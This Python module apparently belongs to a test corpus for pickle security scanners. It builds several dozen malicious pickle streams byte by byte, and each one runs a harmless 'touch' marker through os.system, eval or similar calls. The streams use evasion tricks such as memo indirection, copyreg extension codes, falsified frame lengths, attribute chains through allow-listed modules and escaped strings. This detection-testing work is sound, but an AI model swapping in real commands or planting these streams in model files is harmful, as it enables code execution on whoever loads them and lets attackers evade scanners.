"""Every way in which a stream can import or call, written opcode by opcode.

Source: CPython's Lib/pickle.py and Modules/_pickle.c say what each opcode does.
"""

from __future__ import annotations

import struct
from collections.abc import Callable
from dataclasses import dataclass

from hostile.corpus.assembling import (
    STOP,
    Name,
    arguments_of,
    call,
    encode,
    imported,
    line_text,
    stack_imported,
    text,
)

PROTO2, PROTO4 = b"\x80\x02", b"\x80\x04"
SYSTEM = ("os.system", "posix.system")
CODE = 0x7A  # an extension code that the stream registers for itself


@dataclass(frozen=True, slots=True)
class Way:
    """A stream that fires in one way."""

    name: str
    claim: str
    build: Callable[[str], bytes]
    tells: tuple[str, ...] = SYSTEM


def _touch(mark: str) -> str:
    return f"touch {mark}"


def _instance(attribute: str) -> bytes:
    """An object whose attribute is `os.system`."""
    return imported("argparse", "Namespace") + b")R" + encode({attribute: Name("os", "system")}) + b"b"


def _long_frame(mark: str) -> bytes:
    body = text(_touch(mark))
    announced = struct.pack("<Q", len(body) + 2**16)
    return PROTO4 + b"\x95" + announced + stack_imported("os", "system") + body + b"\x85R." + bytes(2**16)


def _short_frame(mark: str) -> bytes:
    return PROTO4 + b"\x95" + struct.pack("<Q", 0) + stack_imported("os", "system") + text(_touch(mark)) + b"\x85R."


def _exact_frame(mark: str) -> bytes:
    body = stack_imported("os", "system") + text(_touch(mark)) + b"\x85R."
    return PROTO4 + b"\x95" + struct.pack("<Q", len(body)) + body


def _extension(opcode: bytes, layout: str, code: int) -> Callable[[str], bytes]:
    def build(mark: str) -> bytes:
        register = encode(call("copyreg", "add_extension", "os", "system", code)) + b"0"
        return PROTO2 + register + opcode + struct.pack(layout, code) + arguments_of((_touch(mark),)) + b"R."

    return build


def _exhausted(kind: str) -> Callable[[str], bytes]:
    """`kind.__new__` walks an iterator that calls."""

    def build(mark: str) -> bytes:
        walked = imported("builtins", "map") + arguments_of((Name("os", "system"), [_touch(mark)])) + b"\x81"
        return PROTO2 + imported("builtins", kind) + walked + b"\x85\x81."

    return build


def _keywords(mark: str) -> bytes:
    given = encode({"shape": 1, "mode": "w+", "dtype": "u1"})
    return PROTO4 + stack_imported("numpy", "memmap") + text(mark) + b"\x85" + given + b"\x92."


def _system(mark: str) -> object:
    return call("os", "system", _touch(mark))


WAYS = (
    Way("REDUCE", "calls", lambda m: PROTO2 + encode(_system(m)) + STOP),
    Way("REDUCE of protocol 0", "calls, all in text", lambda m: b"cos\nsystem\n(" + line_text(_touch(m)) + b"tR."),
    Way("REDUCE without PROTO", "binary opcodes without an announcement", lambda m: encode(_system(m)) + STOP),
    Way(
        "REDUCE with opcodes of protocol 4, none announced",
        "calls",
        lambda m: stack_imported("os", "system") + text(_touch(m)) + b"\x85R.",
    ),
    Way("INST", "calls", lambda m: b"(" + line_text(_touch(m)) + b"ios\nsystem\n."),
    Way("INST of protocol 2", "calls", lambda m: PROTO2 + b"(" + text(_touch(m)) + b"ios\nsystem\n."),
    Way("OBJ", "calls", lambda m: PROTO2 + b"(" + imported("os", "system") + text(_touch(m)) + b"o."),
    Way("OBJ and POP", "calls and throws the result away", lambda m: PROTO2 + b"(" + imported("os", "system") + text(_touch(m)) + b"o0N."),
    Way("NEWOBJ tuple", "walks an iterator that calls", _exhausted("tuple"), ("builtins.map", "builtins.tuple")),
    Way("NEWOBJ frozenset", "walks an iterator that calls", _exhausted("frozenset"), ("builtins.map",)),
    Way("NEWOBJ bytes", "walks an iterator that calls", _exhausted("bytes"), ("builtins.map",)),
    Way("NEWOBJ_EX", "calls with keywords", _keywords, ("numpy.memmap",)),
    Way("EXT1", "calls by a number that it registered before", _extension(b"\x82", "<B", CODE), ("copyreg.add_extension",)),
    Way("EXT2", "calls by a number that it registered before", _extension(b"\x83", "<H", 0x7A7A), ("copyreg.add_extension",)),
    Way("EXT4", "calls by a number that it registered before", _extension(b"\x84", "<i", 0x7A7A7A), ("copyreg.add_extension",)),
    Way(
        "BUILD of __setstate__",
        "gives an object a method, then a state",
        lambda m: PROTO2 + _instance("__setstate__") + text(_touch(m)) + b"b.",
        ("argparse.Namespace", "os.system"),
    ),
    Way(
        "APPEND to an object",
        "gives an object a method that APPEND calls",
        lambda m: PROTO2 + _instance("append") + text(_touch(m)) + b"a.",
        ("argparse.Namespace", "os.system"),
    ),
    Way(
        "APPENDS to an object",
        "gives an object a method that APPENDS calls",
        lambda m: PROTO2 + _instance("append") + b"(" + text(_touch(m)) + b"e.",
        ("argparse.Namespace", "os.system"),
    ),
    Way(
        "ADDITEMS to an object",
        "gives an object a method that ADDITEMS calls",
        lambda m: PROTO4 + _instance("add") + b"(" + text(_touch(m)) + b"\x90.",
        ("argparse.Namespace", "os.system"),
    ),
    Way(
        "SETITEM of a database",
        "writes a file by setting an item",
        lambda m: PROTO2 + encode(call("shelve", "open", m)) + text("key") + text("value") + b"s.",
        ("shelve.open",),
    ),
    Way("STACK_GLOBAL", "calls", lambda m: PROTO4 + stack_imported("os", "system") + text(_touch(m)) + b"\x85R."),
    Way(
        "STACK_GLOBAL with dots",
        "imports an attribute of an attribute",
        lambda m: PROTO4 + stack_imported("pathlib", "os.system") + text(_touch(m)) + b"\x85R.",
        ("pathlib.os.system",),
    ),
    Way(
        "GLOBAL with dots in protocol 4",
        "imports an attribute of an attribute",
        lambda m: PROTO4 + imported("pathlib", "os.system") + text(_touch(m)) + b"\x85R.",
        ("pathlib.os.system",),
    ),
    Way(
        "a method of a class, by dots",
        "calls a method of a path",
        lambda m: PROTO4 + stack_imported("pathlib", "Path.touch") + encode(call("pathlib", "PosixPath", m)) + b"\x85R.",
        ("pathlib.Path.touch",),
    ),
    Way(
        "a harmless module's own os",
        "a module on many allow-lists lends its imports",
        lambda m: PROTO4 + stack_imported("collections", "_sys.modules.get") + text("os") + b"\x85R0"
        + stack_imported("torch.serialization", "os.system") + text(_touch(m)) + b"\x85R.",
        ("torch.serialization.os.system",),
    ),
    Way(
        "names as BINUNICODE8",
        "writes the name in an unusual way",
        lambda m: PROTO4
        + b"\x8d" + struct.pack("<Q", 2) + b"os" + b"\x8d" + struct.pack("<Q", 6) + b"system\x93"
        + text(_touch(m)) + b"\x85R.",
    ),
    Way(
        "names from the memo",
        "keeps the name far from its use",
        lambda m: PROTO4 + text("os") + b"r\x00\x00\x01\x000" + text("system") + b"q\x000j\x00\x00\x01\x00h\x00\x93"
        + text(_touch(m)) + b"\x85R.",
    ),
    Way(
        "a memo that is overwritten",
        "the name is replaced after it was looked at",
        lambda m: PROTO4 + text("math") + b"q\x010" + text("os") + b"q\x010h\x01" + text("system") + b"\x93"
        + text(_touch(m)) + b"\x85R.",
    ),
    Way(
        "the function from the memo",
        "imports at the start, calls at the end",
        lambda m: PROTO2 + imported("os", "system") + b"q\x050" + encode({"weights": [1.0, 2.0]}) + b"0h\x05"
        + arguments_of((_touch(m),)) + b"R.",
    ),
    Way(
        "PUT and GET of protocol 0",
        "the same in text",
        lambda m: b"cos\nsystem\np7\n0g7\n(" + line_text(_touch(m)) + b"tR.",
    ),
    Way(
        "DUP",
        "calls a copy of the name",
        lambda m: PROTO2 + imported("os", "system") + b"2" + arguments_of((_touch(m),)) + b"R.",
    ),
    Way("POP", "throws the result away", lambda m: PROTO2 + encode(_system(m)) + b"0" + encode({"epoch": 3}) + STOP),
    Way("POP_MARK", "throws the result away", lambda m: PROTO2 + b"(" + encode(_system(m)) + b"1" + encode([1]) + STOP),
    Way("a dict key", "hides in a key", lambda m: PROTO2 + b"}(" + encode(_system(m)) + encode(1) + b"u."),
    Way(
        "a dict value that is replaced",
        "sets a key twice",
        lambda m: PROTO2 + b"}(" + encode("epoch") + encode(_system(m)) + encode("epoch") + encode(3) + b"u.",
    ),
    Way("an item of a tuple", "hides in a tuple", lambda m: PROTO2 + encode((1, (2, (_system(m),)))) + STOP),
    Way("the state of an object", "hides in a state", lambda m: PROTO2 + imported("argparse", "Namespace") + b")\x81"
        + encode({"lr": _system(m)}) + b"b."),
    Way(
        "the arguments of a harmless call",
        "hides in an argument",
        lambda m: PROTO2 + encode(call("collections", "OrderedDict", [["a", _system(m)]])) + STOP,
    ),
    Way(
        "a persistent id",
        "calls before the id is asked for",
        lambda m: PROTO2 + encode(_system(m)) + b"Q.",
    ),
    Way("a broken end", "breaks off after the call", lambda m: PROTO2 + encode(_system(m))),
    Way("a broken end with garbage", "goes on with what is no opcode", lambda m: PROTO2 + encode(_system(m)) + b"\xff\xfe\xfd"),
    Way("an empty stack at the end", "stops without a value", lambda m: PROTO2 + encode(_system(m)) + b"0."),
    Way("a value too many", "leaves values on the stack", lambda m: PROTO2 + encode(1) + encode(_system(m)) + b"N."),
    Way("data after STOP", "a web page follows", lambda m: PROTO2 + encode(_system(m)) + b".<html><body>hello</body></html>"),
    Way("a second stream follows", "weights follow", lambda m: PROTO2 + encode(_system(m)) + STOP + PROTO2 + encode({"a": 1}) + STOP),
    Way("a frame that is too long", "ends before its frame does", _long_frame),
    Way("a frame of no bytes", "goes on outside its frame", _short_frame),
    Way("a frame that fits", "calls", _exact_frame),
    Way("PROTO twice", "announces 2, then 4", lambda m: PROTO2 + PROTO4 + stack_imported("os", "system") + text(_touch(m)) + b"\x85R."),
    Way("PROTO 0 with opcodes of 4", "announces less than it uses", lambda m: b"\x80\x00" + stack_imported("os", "system") + text(_touch(m)) + b"\x85R."),
    Way("PROTO 5", "calls", lambda m: b"\x80\x05" + stack_imported("os", "system") + text(_touch(m)) + b"\x85R."),
    Way("PROTO in the middle", "announces late", lambda m: encode(1) + b"0" + PROTO4 + encode(_system(m)) + STOP),
    Way("a long prefix", "many harmless opcodes first", lambda m: b"N0" * 30_000 + encode(_system(m)) + STOP),
    Way("a long harmless dict first", "many keys first", lambda m: PROTO2 + encode({f"layer{n}": n for n in range(3_000)}) + b"0" + encode(_system(m)) + STOP),
    Way("Python 2's names", "the old module name", lambda m: b"c__builtin__\neval\n(" + line_text(f"open({m!r},'w').close()") + b"tR.", ("__builtin__.eval", "builtins.eval")),
    Way("STRING arguments", "quoted text", lambda m: b"cos\nsystem\n(S'" + _touch(m).encode() + b"'\np0\ntp1\nRp2\n."),
    Way("STRING with escapes", "the command is escaped", lambda m: b"cos\nsystem\n(S'" + "".join(f"\\x{byte:02x}" for byte in _touch(m).encode()).encode() + b"'\ntR."),
    Way("UNICODE with escapes", "the command is escaped", lambda m: b"cos\nsystem\n(V" + "".join(f"\\u{byte:04x}" for byte in _touch(m).encode()).encode() + b"\ntR."),
    Way("SHORT_BINSTRING", "the command is a Python 2 string", lambda m: PROTO2 + imported("os", "system") + b"U" + bytes([len(_touch(m))]) + _touch(m).encode() + b"\x85R."),
    Way("BINSTRING", "the command is a Python 2 string", lambda m: PROTO2 + imported("os", "system") + b"T" + struct.pack("<i", len(_touch(m))) + _touch(m).encode() + b"\x85R."),
    Way("BYTEARRAY8", "the command is a bytearray", lambda m: b"\x80\x05" + stack_imported("os", "system") + imported("builtins", "bytes") + b"\x96" + struct.pack("<Q", len(_touch(m))) + _touch(m).encode() + b"\x85R\x85R."),
    Way("LIST and DICT of marks", "old opcodes around the call", lambda m: b"((" + encode(_system(m)) + b"l" + line_text("a") + b"td.", SYSTEM),
)  # fmt: skip


def by_name() -> dict[str, Way]:
    """The ways by their names."""
    return {way.name: way for way in WAYS}
